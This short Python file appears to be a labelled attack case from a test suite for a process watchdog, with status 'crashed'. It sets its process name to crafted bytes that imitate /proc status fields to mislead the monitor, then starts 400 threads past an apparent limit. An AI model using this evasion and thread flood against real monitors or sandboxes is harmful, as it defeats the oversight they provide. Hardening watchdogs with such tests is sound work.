# attack: gives itself a name that is no text, to trip who watches it, and starts more threads than it may (here 400)
# layer: watchdog
# where: construct
# status: crashed
# score: none
import torch

libc, threading, time = torch.ctypes.CDLL(None), torch.threading, __import__("time")
PR_SET_NAME = 15


def attack():
    libc.prctl(PR_SET_NAME, b"\xff\xfe) Z 1\nPid:")
    time.sleep(0.3)
    threading.stack_size(1 << 16)
    for _ in range(400):
        threading.Thread(target=time.sleep, args=(5,), daemon=True).start()
    time.sleep(2)
    raise RuntimeError("ESCAPED the watchdog")
